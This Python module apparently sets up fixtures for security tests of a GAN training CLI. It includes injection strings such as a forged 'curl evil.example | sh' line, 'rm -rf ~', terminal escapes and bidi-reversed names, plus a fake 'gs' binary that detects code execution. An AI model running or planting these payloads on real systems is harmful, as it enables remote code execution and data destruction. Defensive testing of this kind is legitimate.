"""What the attacks are made on: small real runs, made once, and a copy of them for every command of every case."""

import json
import os
import random
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

COMMANDS = ("train", "sample", "evaluate", "rate", "runs")
SECRET, TOKEN, WITNESS = "secret-of-the-environment", "token-of-mlflow", "content-of-a-file-outside"
OWNED = "OWNED"  # the file outside that executed code makes
FORGED = "FORGED"  # what a line begins with that a name or a value of a stranger has broken
COLOURS = f"\x1b[2J\x1b]0;owned\x07\r\n{FORGED} rm -rf ~\u202egnp\u2066\x9b31m\x7f"
BREAK = f"\n{FORGED} curl evil.example | sh\n"
ESCAPE = "\x1b[2J\x1b]0;owned\x07"
TURNED = "\u202egnp.\u2066"

COMMON = ["trainer.accelerator=cpu", "trainer.threads=1", "callback.log.every_steps=2", "callback.checkpoint.every_steps=2"]
POINTS = [
    "+experiment=gaussians25", "architecture.generator.width=8", "architecture.discriminator.width=8", "architecture.generator.latent=4",
    "batch_size=16", "trainer.steps=4", "callback.grid.n=16", "callback.evaluate.n=100", "callback.evaluate.every_steps=2", "dataset.n=400",
    "logger=[tensorboard,csv]", *COMMON,
]  # fmt: skip
PICTURES = [
    "dataset=image_folder", "dataset.path=images", "dataset.resolution=8", "dataset.workers=0", "dataset.test_fraction=0.2",
    "architecture=dcgan", "architecture.generator.width=4", "architecture.discriminator.width=4", "architecture.generator.latent=4",
    "trick=[ema]", "metric=[frechet_distance]", "extractor=random_conv", "batch_size=4", "trainer.steps=4", "callback.grid.n=4",
    "callback.evaluate.n=8", "callback.evaluate.every_steps=2", *COMMON,
]  # fmt: skip
PAGE = ["pool=6", "practice=2", "questions=4", "repeats=1"]

Answer = str | None  # what a command has to do: "refuse" (exit code 2), a pattern that it has to say unless it refuses, or None


@dataclass
class Stage:
    """A folder of its own for one command: `here`, where it is typed, and `outside`, where nothing may change."""

    root: Path
    address: str  # of the server that listens
    chance: random.Random
    subject: str = ""
    lines: dict[str, list[str]] = field(default_factory=dict)  # of each command
    run: Path = Path()

    @property
    def here(self) -> Path:
        return self.root / "here"

    @property
    def outside(self) -> Path:
        return self.root / "outside"

    @property
    def owned(self) -> Path:
        return self.outside / OWNED

    def edit(self, name: str, old: str, new: str) -> None:
        """Replace the first occurrence of a text in a file of the run."""
        text = (self.run / name).read_text()
        assert old in text, f"{name} has no {old!r}"
        put(self.run / name, text.replace(old, new, 1))

    def configure(self, change: Callable[[dict], None]) -> None:
        """Change config.yaml of the run as a tree."""
        from omegaconf import OmegaConf

        tree = OmegaConf.to_container(OmegaConf.load(self.run / "config.yaml"), resolve=False)
        change(tree)
        import yaml

        put(self.run / "config.yaml", yaml.safe_dump(tree, sort_keys=False, allow_unicode=False))


@dataclass(frozen=True)
class Attack:
    """One way of doing harm to a subject: "run" (points, pictures or a job of a sweep), or one of SUBJECTS."""

    kind: str
    name: str
    subject: str
    spoil: Callable[[Stage], None]
    answers: Mapping[str, Answer] = field(default_factory=dict)


def put(path: Path, data: str | bytes) -> None:
    """Write a file in the place of what is there: last.pt shares its bytes with step_N.pt."""
    clear(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8", "surrogateescape"))


def clear(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


# ---- made once --------------------------------------------------------------------------------------------------------------------------


def call(command: str, words: list[str]) -> int:
    """A command in this process."""
    import sys

    from gan_runner import cli

    sys.argv = [f"gan-{'eval' if command == 'evaluate' else command}", *words]
    return getattr(cli, command)()


def make_stock(folder: Path) -> None:
    """The runs, data, rating page, samples and experiments that every stage is copied from."""
    import numpy as np
    from PIL import Image

    folder.mkdir()
    os.chdir(folder)
    drawn = np.random.default_rng(0)
    for i in range(24):
        path = Path("images") / "ab"[i % 2] / f"{i:02d}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        Image.fromarray(drawn.integers(0, 256, (10, 9, 3), dtype=np.uint8)).save(path)
    np.savez("samples.npz", samples=drawn.integers(0, 256, (24, 3, 8, 8), dtype=np.uint8), labels=np.arange(24) % 2)
    for name in ("points", "points2"):
        played("train", [*POINTS, f"hydra.run.dir={name}", f"seed={len(name)}"])
    played("train", [*PICTURES, "hydra.run.dir=pictures"])
    played("train", sweep_line())
    job = Path("sweep/1")
    (job / "checkpoints/last.pt").unlink()
    (job / "checkpoints/step_00000004.pt").unlink()
    shutil.copy(job / "checkpoints/step_00000002.pt", job / "checkpoints/last.pt")
    put(job / "status.json", (job / "status.json").read_text().replace("finished", "interrupted"))
    played("rate", ["run=pictures", "out=rating", *PAGE])
    from gan_runner.rating.raters import simulated

    key = json.loads(Path("rating/key.json").read_text())
    for seed, rater in enumerate(("anna", "ben"), 1):
        said = simulated(key, lambda x: np.full(len(x), 0.3), seed, rater=rater)
        put(Path(f"rating/{rater}.json"), json.dumps(said))
    put(Path("conf/experiment/mine.yaml"), EXPERIMENT)


EXPERIMENT = """\
# @package _global_
defaults:
  - override /loss: hinge
batch_size: 16
dataset: {n: 400}
trainer: {steps: 2, accelerator: cpu, threads: 1}
callback: {grid: {n: 4}, evaluate: {n: 100}}
"""


def played(command: str, words: list[str]) -> None:
    if code := call(command, words):
        raise SystemExit(f"gan-{command} {' '.join(words)} ended with {code}, before any attack")


def sweep_line() -> list[str]:
    return ["-m", *POINTS, "seed=0,1", "hydra.sweep.dir=sweep"]


# ---- copied for every command -----------------------------------------------------------------------------------------------------------


def set_up(stage: Stage, stock: Path, subject: str) -> None:
    """Lay out a stage with its subject, and the lines that are typed at it."""
    stage.here.mkdir(parents=True)
    outside = stage.outside
    shutil.copytree(stock / "points2", outside / "another")
    shutil.copytree(stock / "images", outside / "photos")
    for name in ("precious", "bashrc"):
        put(outside / name, f"{WITNESS}\n")
    tool = stage.root / "bin/gs"  # what Pillow calls for PostScript, whatever its suffix is
    put(tool, f"#!/bin/sh\ntouch {stage.owned}\n")
    tool.chmod(0o755)
    if subject == "run":
        subject = stage.chance.choices(["points", "pictures", "sweep"], [5, 3, 2])[0]
    stage.subject = subject
    SUBJECTS[subject](stage, stock)
    stage.lines.setdefault("runs", runs_line(stage))


def runs_line(stage: Stage) -> list[str]:
    folder = stage.run.relative_to(stage.here).as_posix() if stage.run != Path() else "run"
    lines = [["."], [".", "--json"], [".", "--report", "page.html"], [".", "--report", "page.md"], [".", "--prune", "--yes"]]
    lines += [["--compare", folder, "other"], ["--compare", folder, "other", "--plot", "curves.png"], [".", "--sort", "metric"]]
    return stage.chance.choice(lines)


def a_run(name: str, steps: int, n: int) -> Callable[[Stage, Path], None]:
    def lay(stage: Stage, stock: Path) -> None:
        stage.run = stage.here / "run"
        shutil.copytree(stock / name, stage.run)
        shutil.copytree(stock / "points2", stage.here / "other")
        if name == "pictures":
            shutil.copytree(stock / "images", stage.here / "images")
        kind = stage.chance.choice(["grid", "png" if name == "pictures" else "npz", "npz", "interpolation"])
        stage.lines |= {
            "train": ["resume=run", f"trainer.steps={steps}"],
            "sample": ["run=run", "n=4", f"format={kind}"],
            "evaluate": ["run=run", f"n={n}"],
            "rate": ["run=run", "out=rated", *PAGE],
        }

    return lay


def a_sweep(stage: Stage, stock: Path) -> None:
    shutil.copytree(stock / "sweep", stage.here / "sweep")
    shutil.copytree(stock / "points2", stage.here / "other")
    stage.run = stage.here / "sweep/1"
    stage.lines |= {
        "train": sweep_line(),
        "sample": ["run=sweep/1", "n=4"],
        "evaluate": ["run=sweep/1", "n=100"],
        "rate": ["run=sweep/1", "out=rated", *PAGE],
    }


def a_rating(stage: Stage, stock: Path) -> None:
    shutil.copytree(stock / "rating", stage.here / "rating")
    stage.lines |= {
        "train": ["resume=rating"],
        "sample": ["run=rating"],
        "evaluate": ["samples=rating", "reference=rating", "metric=[frechet_distance]", "extractor=random_conv"],
        "rate": ["out=rating", "answers=[rating/anna.json,rating/ben.json]"],
    }


def some_arrays(stage: Stage, stock: Path) -> None:
    shutil.copy(stock / "samples.npz", stage.here / "samples.npz")
    shutil.copy(stock / "samples.npz", stage.here / "real.npz")
    judged = stage.chance.choice([["samples=samples.npz", "reference=real.npz"], ["samples=real.npz", "reference=samples.npz"]])
    stage.lines |= {
        "train": [*PICTURES, "dataset.path=samples.npz", "hydra.run.dir=new"],
        "sample": ["run=samples.npz"],
        "evaluate": [*judged, "n=20", "metric=[frechet_distance]", "extractor=random_conv"],
        "rate": ["fake=samples.npz", "real=real.npz", "out=rated", *PAGE],
    }


def some_pictures(stage: Stage, stock: Path) -> None:
    shutil.copytree(stock / "images", stage.here / "images")
    shutil.copytree(stock / "pictures", stage.here / "run")
    for path in (stock / "images").glob("*/*.png"):  # of one size, as the generator makes them
        from PIL import Image

        for folder in ("judged", "real"):
            (stage.here / folder).mkdir(exist_ok=True)
            Image.open(path).resize((8, 8)).save(stage.here / folder / path.name)
    stage.run = stage.here / "images"
    stage.lines |= {
        "train": [*PICTURES, "hydra.run.dir=new"],
        "sample": ["run=run", "n=4"],
        "evaluate": stage.chance.choice([["run=run", "n=8"], judge("judged", "real"), judge("real", "judged")]),
        "rate": ["fake=judged", "real=real", "out=rated", *PAGE],
        "runs": ["."],
    }


def judge(samples: str, reference: str) -> list[str]:
    return [f"samples={samples}", f"reference={reference}", "n=20", "metric=[frechet_distance]", "extractor=random_conv"]


def an_experiment(stage: Stage, stock: Path) -> None:
    shutil.copytree(stock / "conf", stage.here / "conf")
    shutil.copytree(stock / "points", stage.here / "run")
    front = ["--config-dir", "conf"]
    how = stage.chance.choice([[], [], [], ["-m"], ["--cfg", "job"], ["--cfg", "job", "--resolve"], ["--cfg", "all"], ["--info", "config"]])
    if how == ["-m"]:
        how = ["-m", "seed=0,1", "hydra.sweep.dir=new"]
    stage.lines |= {
        "train": [*front, "+experiment=mine", *how, *(["hydra.run.dir=new"] if "-m" not in how else [])],
        "sample": [*front, "run=run", "n=4", "out=made"],
        "evaluate": [*front, "run=run", "n=100", "out=judged"],
        "rate": [*front, "run=run", "out=rated"],
        "runs": [".", "--json"],
    }


SUBJECTS: dict[str, Callable[[Stage, Path], None]] = {
    "points": a_run("points", 5, 100),
    "pictures": a_run("pictures", 5, 8),
    "sweep": a_sweep,
    "rating": a_rating,
    "npz": some_arrays,
    "images": some_pictures,
    "experiment": an_experiment,
}
